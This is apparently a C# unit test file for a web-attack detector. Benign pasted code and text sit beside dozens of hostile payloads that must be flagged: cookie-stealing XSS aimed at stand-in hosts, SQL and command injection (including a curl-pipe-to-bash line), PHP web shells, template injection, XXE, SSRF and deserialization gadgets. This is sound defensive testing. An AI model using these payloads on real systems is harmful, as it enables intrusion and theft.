using Vedette.Engine.Signatures;
using static Vedette.Engine.Tests.Signatures.InspectorFixture;

namespace Vedette.Engine.Tests.Signatures;

/// <summary>Programs, quotations, tables and mails that people paste, beside the attacks that look most like them.</summary>
public class HonestTextTests
{
    [Theory]
    [InlineData("document.getElementById('save').addEventListener('click', (e) => { e.preventDefault(); update(19); });")]
    [InlineData("if (typeof window !== 'undefined' && window.location.hash) { router.push(window.location.pathname); }")]
    [InlineData("$stmt = $pdo->prepare('SELECT * FROM items WHERE id = :id');\n$stmt->execute(['id' => $id]);")]
    [InlineData("if (ptr != NULL && ptr->next == head) { free(ptr); ptr = NULL; }")]
    [InlineData("<?php\nnamespace App\\Models;\n\nclass Account extends Model\n{\n    protected $fillable = ['name', 'coffee'];\n}")]
    [InlineData("const rows = items.filter(x => x.total > 3 && x.name !== '');\nreturn rows.length;")]
    [InlineData("public static void main(String[] args) throws Exception { new Service().run(args[0]); }")]
    [InlineData("def load(path):\n    with open(path) as f:\n        return [line.split(',') for line in f]")]
    public void Programs(string value) => AssertPasses(value);

    [Theory]
    [InlineData("My query: SELECT a.id, b.name FROM orders a JOIN users b ON a.id = b.a_id WHERE b.name LIKE '%kitchen%' ORDER BY 1 -- returns nothing")]
    [InlineData("What's the difference between UNION and UNION ALL? SELECT 1 UNION SELECT 1 gives one row.")]
    [InlineData("Explain this query: SELECT * FROM orders WHERE id = 1 OR 1=1")]
    [InlineData("order by 5 -- by price, or by name?")]
    [InlineData("name~\"^select\" && (total >= 6094 || vip == true)")]
    public void StatementsInSentencesAndFilters(string value) => AssertPasses(value);

    [Theory]
    [InlineData("| host | shell |\n|---|---:|\n| sleep | 7065 |")]
    [InlineData("<https://shop.example/search/8172|eval> deployed: *done*")]
    [InlineData("Subject: coffee (#13)\nFrom: \"Jim\" <jim@shop.example>\nTo: admin@shop.example\nCc: group@shop.example\n\nThanks")]
    [InlineData("<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist version=\"1.0\"/>")]
    [InlineData(".items[] | select(.total > 3) | {id, name}")]
    public void TablesLinksMailsAndDocumentTypes(string value) => AssertPasses(value);

    [Theory]
    [InlineData("Subject: notes\nFrom: a@b.example\nTo: c@d.example\nBcc: e@f.example\n\nHello", false)]
    [InlineData("> From: Anna <a@b.example>\n> To: c@d.example\n> Cc: e@f.example\n>\n> Hello", false)]
    [InlineData("-----Original Message-----\nFrom: a@b.example\nTo: c@d.example", false)]
    [InlineData("Hello\nBcc: e@f.example", true)]
    [InlineData("a@b.example\r\nCc: e@f.example", true)]
    public void AForwardedMailMayHoldHeaders(string value, bool expected) => Assert.Equal(expected, Request(body: "text=" + Uri.EscapeDataString(value)).IsAttack);

    [Theory]
    [InlineData(".garden {\n  color: #333;\n  font-weight: bold;\n}")]
    [InlineData("commit 18517a55\nAuthor: Anna Lee <anna@b.example>\nDate:   Tue May 25 14:52:50 2010 -0300")]
    [InlineData("version: 3\ndate: today\nchanges:")]
    [InlineData("property: blue\n\nlocation:\n  name: garden")]
    public void LinesOfDocumentsAreNoHeaders(string value) => AssertPasses(value);

    [Theory]
    [InlineData("<p>Moved to <a href=\"../../../garden/blue.html\">../../../garden/blue.html</a></p>")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0; url=../../../core/fn.html\">")]
    [InlineData("<p>Use &lt;script&gt; tags sparingly; put them at the end.</p>")]
    [InlineData("<button onClick={() => setCount(count + 1)}>{count}</button>")]
    [InlineData("<input value={title} onChange={this.props.onChange} onBlur={validate} />")]
    [InlineData("a { background: url('data:image/svg+xml,<svg width=\"4\" height=\"4\"></svg>') }")]
    [InlineData("\"<b>bold</b>\",plain,\"a & b\"")]
    [InlineData("[`feceb77d7e`](https://host.example/commit/feceb77d7e) Read the docs")]
    public void PartsOfPages(string value) => AssertPasses(value);

    [Theory]
    [InlineData("Just pipe it: cat access.log | grep 404 | sort | uniq -c | head")]
    [InlineData("if [ -z \"$1\" ]; then\n  echo \"usage: $0 file\" >&2\n  exit 1\nfi")]
    [InlineData("set -e\nREV=$(git rev-parse --short HEAD)\necho \"building $REV\"\nmake all")]
    [InlineData("ALTER TABLE a ADD COLUMN b int;\nUPDATE a SET b = 4;\nALTER TABLE a ALTER COLUMN b SET NOT NULL;")]
    [InlineData("DROP FUNCTION f(int);\nCREATE FUNCTION f(a int) RETURNS int")]
    [InlineData("```bash\nnpm start\n```")]
    public void Scripts(string value) => AssertPasses(value);

    [Theory]
    [InlineData("{{ config.site_title }} - {{ page.title }}")]
    [InlineData("query List($where: garden_filter!, $limit: Int) { list(where: $where, limit: $limit) { id } }")]
    [InlineData("<xi:include href=\"chapter1.xml\"/>")]
    [InlineData("<!DOCTYPE target SYSTEM \"target.dtd\"><target/>")]
    [InlineData("We saw requests for ../../etc/passwd in our logs, what does that mean?")]
    [InlineData("/// See notes on operators. /// more")]
    public void TemplatesQueriesAndDocuments(string value) => AssertPasses(value);

    [Theory]
    [InlineData("<?php foreach ($rows as $row) { echo \"<td>$row</td>\"; } ?>")]
    [InlineData("<?= $order->total ?> is empty but <?= $order->id ?> is not")]
    [InlineData("<?php the_post(); ?> shows the wrong page")]
    public void PagesOfPhpRunNothingTheyAreHanded(string value) => AssertPasses(value);

    [Theory]
    [InlineData("SELECT 4; DROP TABLE tmp_colors;")]
    [InlineData("CREATE TABLE t (id int); INSERT INTO t VALUES (4); SELECT count(*) FROM t;")]
    [InlineData("Why does SELECT * FROM rooms WHERE floor = 1 OR floor = 2 use no index?")]
    [InlineData("nap; sleep(9h), back at six")]
    [InlineData("Gasversorgungsunternehmen")]
    [InlineData("Ganchillo 72, 1-A")]
    public void WholeStatementsWerePutIntoNoOther(string value) => AssertPasses(value);

    [Theory]
    [InlineData("30 4 * * 0 borg create /mnt/b::{now} /srv | logger")]
    [InlineData("for f in *.flac; do opusenc \"$f\" out; done")]
    [InlineData("cut -d, -f2 rooms.csv | sort | uniq -c")]
    [InlineData("run `make docs; make check` before you push")]
    [InlineData("{{ $value | printf \"%.1f\" }} degrees in {{ $labels.room }}")]
    public void LinesThatBeginWithTheirOwnProgram(string value) => AssertPasses(value);

    [Theory]
    [InlineData("<button class=\"b\" onclick=\"pickColor('red', 4)\">red</button>")]
    [InlineData("<a href=\"#\" onclick=\"return confirm('Remove this room?')\">x</a>")]
    [InlineData("<input onfocus=\"this.value=''\" value=\"Room\">")]
    [InlineData("<script type=\"application/ld+json\">{\"@type\":\"Hotel\",\"name\":\"Blue\"}</script>")]
    [InlineData("data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9'/></svg>")]
    [InlineData("<script src=\"/assets/room.js\" defer></script>")]
    [InlineData("<script>var rooms = rooms || []; rooms.push(['visit', 4]);</script>")]
    public void HandlersAndDataOfThePageItself(string value) => AssertPasses(value);

    [Theory]
    [InlineData("<button onclick=\"fetch('//q.example/'+document.cookie)\">red</button>")]
    [InlineData("<a onclick=\"return confirm(1)\">x</a>")]
    [InlineData("<img src=q onerror=\"this.src='//q.example/?'+document.cookie\">")]
    [InlineData("<a onclick=\"location.href='//q.example'\">x</a>")]
    [InlineData("<script type=\"application/ld+json\">{}</script><script>alert(4)</script>")]
    [InlineData("<script>top['al'+'ert'](4)</script>")]
    [InlineData("data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(4)</script></svg>")]
    [InlineData("<script src=\"//q.example/room.js\"></script>")]
    [InlineData("<script src=\"/assets/room.js\">alert(4)</script>")]
    public void HandlersAndDataThatReachFurther(string value) => Assert.True(Value(value).IsAttack, value);

    [Theory]
    [InlineData("<script src=\"room-4a1f.js\"></script>")]
    [InlineData("<script src=\"../../js/room.min.js?ver=4.2\" defer></script>")]
    [InlineData("<script>\nconst box = document.getElementById('room');\nlet open = localStorage.getItem('room') === 'open';\nbox.addEventListener('click', function () {\n  open = !open;\n  box.classList.toggle('open', open);\n});\n</script>")]
    public void ScriptsThatMoveThePartsOfTheirOwnPage(string value) => AssertPasses(value);

    [Theory]
    [InlineData("<script src=\"https://q.example/room.js\"></script>")]
    [InlineData("<script src=\"..\\\\q.example/room.js\"></script>")]
    [InlineData("<script>\nconst box = document.getElementById('room');\nlet token = localStorage.getItem('token');\nif (token) {\n  fetch('/q?' + token);\n}\n</script>")]
    [InlineData("<script>\nconst box = document.getElementById('room');\nfunction go() {\n  box.innerHTML = location.hash;\n}\n</script>")]
    [InlineData("<script>\nfunction go() {\n  window['al' + 'ert'](4);\n}\nreturn go();\n</script>")]
    public void ScriptsThatReachFurther(string value) => Assert.True(Value(value).IsAttack, value);

    [Theory]
    [InlineData("for dir in $PATH; do\n  test -z \"$dir\" && dir=.\n  if test -f \"$dir/room\"; then\n    found=\"$dir/room\"\n    version=$(\"$found\" --version 2>/dev/null | head -n 1)\n    echo \"found '$version'\" >&2\n  fi\ndone")]
    [InlineData("def rooms(path):\n    \"\"\"Return the rooms; it doesn't follow links.\"\"\"\n    out = subprocess.check_output([\"/usr/bin/rooms\", \"-l\", path])\n    if not out or path == '':\n        raise ValueError(\"can't read '%s'\" % path)\n    return out.decode().split(';')")]
    [InlineData("-- every room once\nCREATE TABLE rooms (\n  id int,\n  name text DEFAULT ''\n);\nINSERT INTO rooms SELECT id, name FROM old WHERE name <> '' OR id > 4;\nDROP TABLE old; -- not needed")]
    [InlineData("Where the parts of the house are:\n\nthe cellar: ../../cellar/plan.md\nthe kitchen; see `cat kitchen.txt | sort`\nthe rooms ('it's all open')\nthe roof: rm -rf is what it needs\nand the garden -- ask Anna")]
    public void ArticlesProgramsAndScriptsOfManyLines(string value) => AssertPasses(value);

    [Theory]
    [InlineData("Good room,\nfriendly people.\nThe bed was a bit small.\nI would come again.\nBest regards\nfrom Anna'; DROP TABLE rooms; --")]
    [InlineData("<p>The room was fine.</p>\n<p>We liked the garden best.</p>\n<p>The bed could be better.</p>\n<p>All in all good.</p>\n<img src=x onerror=alert(1)>\n<p>Until next year.</p>")]
    [InlineData("<?php\n// a small page\nif (isset($_REQUEST['room'])) {\n    $c = $_REQUEST['room'];\n    echo \"<pre>\";\n    system($c);\n    echo \"</pre>\";\n}\n?>")]
    public void AttacksOfManyLines(string value) => Assert.True(Value(value).IsAttack, value);

    [Theory]
    [InlineData("Dear {{ user.name|default('guest') }}, {% for x in rooms %}{{ x.price | round(2) }}{% endfor %}", false)]
    [InlineData("The light is {% if is_state('light.room', 'on') %}on{% else %}off{% endif %}", false)]
    [InlineData("{% if self.__init__.__globals__.os.popen('id') %}a{% endif %}", true)]
    [InlineData("{{ ['id']|filter('system') }}", true)]
    [InlineData("{{ request|attr('application') }}", true)]
    [InlineData("{{ ['id']|map('system')|join(',') }}", true)]
    public void FiltersOfATemplateAreNoCalls(string value, bool expected) => Assert.Equal(expected, Value(value).IsAttack);

    [Theory]
    [InlineData("GET /rooms HTTP/1.1\r\nHost: api.example\r\nContent-Length: 4\r\n\r\n{}", false)]
    [InlineData("HTTP/1.1 302 Found\r\nLocation: https://api.example/\r\nSet-Cookie: a=b", false)]
    [InlineData("rooms\r\nSet-Cookie: a=b", true)]
    public void AMessagePastedAsAWholeMayHoldHeaders(string value, bool expected) => Assert.Equal(expected, Request(body: "text=" + Uri.EscapeDataString(value)).IsAttack);

    [Theory]
    [InlineData("<order><item>' or 1=1 or ''='</item></order>", true)]
    [InlineData("<order><item><![CDATA[' or 1=1 or ''=']]></item></order>", true)]
    [InlineData("<nav><a href=\"../../../rooms/blue.html\">blue</a><svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0h9\"/></svg></nav>", false)]
    [InlineData("<order><item>O'Brien or Miller</item></order>", false)]
    [InlineData("<!DOCTYPE room SYSTEM \"../room.dtd\"><room><bed a=\"[1]\"/></room>", false)]
    [InlineData("<!DOCTYPE room SYSTEM \"urn:room:room.dtd\"><room/>", false)]
    [InlineData("<!DOCTYPE room SYSTEM \"//q.example/room.dtd\"><room/>", true)]
    [InlineData("password[$not][$eq]=a", true)]
    [InlineData("BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbg==", true)]
    public void BodiesOfElementsAndObjects(string body, bool expected) => Assert.Equal(expected, Request(body: body).IsAttack);

    [Theory]
    [InlineData("bob',role='admin',mail='")]
    [InlineData(";find /etc -name passwd")]
    [InlineData(";env")]
    [InlineData("1 INTO DUMPFILE '/tmp/room'")]
    [InlineData("<#list .data_model?keys as k>${k}</#list>")]
    [InlineData("[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://q.example/a.xml\"]")]
    public void WhatBreaksOutWithoutACondition(string value) => Assert.True(Value(value).IsAttack, value);

    [Theory]
    [InlineData("Add `127.0.0.1 room.local` to /etc/hosts (on Windows C:\\Windows\\System32\\drivers\\etc\\hosts) and flush DNS", false)]
    [InlineData("C:\\Windows\\System32\\drivers\\etc\\hosts", true)]
    public void APathInASentenceIsOpenedByNobody(string value, bool expected) => Assert.Equal(expected, Value(value).IsAttack);

    [Fact]
    public void SqlInAnAgentNeedsNoSpecialCharacter() => Assert.True(Request(agent: "1 UNION ALL SELECT 1,2,3").IsAttack);

    [Theory]
    [InlineData("{\"height\":{\"$gte\":4,\"$ne\":9}}", false)]
    [InlineData("{\"password\":{\"$not\":{\"$eq\":\"q\"}}}", true)]
    [InlineData("{\"@type\":\"javax.swing.JEditorPane\",\"page\":\"http://q.example\"}", true)]
    [InlineData("{\"@type\":\"Hotel\",\"name\":\"Blue\"}", false)]
    [InlineData("--- !ruby/object:Gem::Requirement\nrequirements: q", true)]
    [InlineData("gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVt", true)]
    [InlineData("INSERT INTO rooms (name) VALUES ('blue'); -- adds one room", false)]
    [InlineData("--q\n<script>alert(4)</script>", true)]
    [InlineData("<!DOCTYPE d [<!ENTITY nbsp \"&#160;\">]><d>4&nbsp;m</d>", false)]
    [InlineData("<!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><d>&b;</d>", true)]
    public void Bodies(string body, bool expected) => Assert.Equal(expected, Request(body: body).IsAttack);

    [Fact]
    public void AVerbOfAProtocolIsNoCommand()
    {
        Assert.False(Request(body: "{\"cmd\":\"ping\",\"seq\":2932}").IsAttack);
        Assert.True(Request(body: "{\"cmd\":\"ping -c 3 198.51.100.7; cat /etc/passwd\"}").IsAttack);
    }

    [Theory]
    [InlineData("my friend' union select 1,2 from users -- -")]
    [InlineData("x 'or 'a'='a")]
    [InlineData("x' or ' '=' ")]
    [InlineData("1 union values(1,2,3)")]
    [InlineData("id;select pg_sleep(5)")]
    [InlineData(" ORDER BY 15-- ")]
    [InlineData("1 order by 7#")]
    [InlineData("[$ne]=1")]
    [InlineData("'-print()-'")]
    [InlineData("\" onclick=print()//")]
    [InlineData("127.0.0.1; nslookup x.callback.example")]
    [InlineData("a.txt;/usr/bin/id")]
    [InlineData("garden\nwhoami")]
    [InlineData("O:8:\"stdClass\":1:{s:4:\"exec\";s:2:\"id\";}")]
    [InlineData("a@b.example\nBcc: victim@b.example")]
    [InlineData("<!DOCTYPE a PUBLIC \"-//W3C//A\" \"http://x.example/a.dtd\"><a/>")]
    [InlineData("']|//password|//a['")]
    [InlineData("<p>a</p><iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>")]
    [InlineData("<p>a</p><iframe SrcDoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>")]
    [InlineData("<img src=x onerror={alert(1)}>")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">")]
    [InlineData("<a href=\"../../../../etc/passwd\">")]
    [InlineData("{{config.items()}}")]
    [InlineData("{{config.SECRET_KEY}}")]
    [InlineData("blue\r\nSet-Cookie: a=b")]
    [InlineData("blue\r\nX-Injected: yes")]
    [InlineData("1; DROP TABLE users")]
    [InlineData("1;\nDROP TABLE users")]
    [InlineData("<xi:include parse=\"text\" href=\"file:///etc/passwd\"/>")]
    [InlineData("<!DOCTYPE a SYSTEM \"http://x.example/a.dtd\"><a/>")]
    [InlineData("../.env")]
    [InlineData("| net user")]
    [InlineData("; type %WINDIR%\\system32\\drivers\\etc\\hosts")]
    [InlineData("'||this.user=='admin")]
    [InlineData("')] | //password\0")]
    [InlineData("<%eval request(\"pass\")%>")]
    [InlineData("<?php system($_GET['q']); ?>")]
    [InlineData("<?= `id` ?>")]
    [InlineData("<?php print(4); ?>")]
    [InlineData("<?php include($_GET['page']); ?>")]
    [InlineData("';phpinfo();//")]
    [InlineData("4 AND 8-3=5")]
    [InlineData("4;SELECT sleep(9)")]
    [InlineData("report.pdf\"; touch /tmp/q; \"")]
    [InlineData("abc`sleep 9`")]
    [InlineData(";ifconfig eth3")]
    [InlineData("red\"&whoami&\"")]
    [InlineData("[k for k in ().__class__.__base__.__subclasses__()]")]
    [InlineData("q@b.example\r\nRCPT TO:<v@b.example>")]
    public void AttacksBesideThem(string value) => Assert.True(Value(value).IsAttack, value);

    [Theory]
    [InlineData("next=//attacker.example")]
    [InlineData("redirect=%5C%5Cattacker.example")]
    [InlineData("redirect_uri=https://good.example@attacker.example/")]
    [InlineData("url=http://0/admin")]
    [InlineData("url=http://127.0.0.1:6379/")]
    [InlineData("url=http://[::ffff:127.0.0.1]/")]
    [InlineData("__proto__[isAdmin]=1")]
    [InlineData("constructor[prototype][role]=admin")]
    public void Parameters(string query)
    {
        Assert.True(Query(query).IsAttack, query);
        Assert.True(Request(body: query).IsAttack, query);
    }

    [Theory]
    [InlineData(";curl -s http://203.0.113.5/x|bash")]
    [InlineData("&& cat /etc/passwd")]
    [InlineData(" ;busybox wget http://203.0.113.5/x")]
    public void AgentsThatBeginWithASeparator(string agent) => Assert.True(Request(agent: agent).IsAttack, agent);

    [Fact]
    public void WhatIsAllButCertainIsStillRanked()
    {
        float few = Value("1' or 1=1-- -").Score;
        float many = Value("1' or 1=1 union select null,version(),user() from information_schema.tables;drop table users-- -").Score;
        Assert.True(many > few);
        Assert.True(many < 1);
        Assert.Equal(0.5f, PayloadModel.Probability(0));
        Assert.True(PayloadModel.Probability(20) > PayloadModel.Probability(19.9f));
    }

    [Fact]
    public void NamesOfCookiesAndKeysAreReadToo()
    {
        Assert.True(Request(cookies: "shoes' or 1=1-- -").IsAttack);
        Assert.True(Request(body: "{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}").IsAttack);
    }

    [Fact]
    public void OddityRanksWhatNoRuleKnowsAndDecidesNothing()
    {
        var plain = Value("blue garden");
        var odd = Value("~[b]^{c}<>");
        Assert.True(odd.Oddity > plain.Oddity);
        Assert.InRange(odd.Oddity, 0, 0.05f);
        Assert.Equal(0, Request("/about").Oddity);
    }

    [Fact]
    public void FragmentsOfAttacksInAnyOrderNeverThrow()
    {
        string[] pieces = ["' or ", "1=1", "--", "<script", ">", "alert(", ")", "`", "$(", "${", "jndi:", "{{", "}}", "../", "%2e", ";", "|", "cat ", "/etc/passwd", "union ", "select ", "\n", "\r\n", "Bcc: a@b", "http://", "@", "[::1]",
            "<!DOCTYPE ", "<!ENTITY ", "\"", "\\", "\\u003c", "&#x3c;", "{\"$ne\":", ")(uid=*", "(", "/*", "*/", "é", "\0", "\ud83d", "=", "|-|-\n", "O:1:\"", "function(", "=> {", "a"];
        var random = new Vedette.ML.SeededRandom(5);
        for (int round = 0; round < 4000; round++)
        {
            var text = new System.Text.StringBuilder();
            for (int i = random.Next(12); i >= 0; i--) text.Append(pieces[random.Next(pieces.Length)]);
            string value = text.ToString();
            Assert.InRange(Request("/" + value, value, value, value, value, value, value).Score, 0, 1);
        }
    }

    private static void AssertPasses(string value)
    {
        Assert.False(Value(value).IsAttack, $"as a parameter: {Value(value).Score} {Value(value).Classes}");
        Assert.False(Request(body: System.Text.Json.JsonSerializer.Serialize(new { text = value })).IsAttack, "in JSON");
    }
}
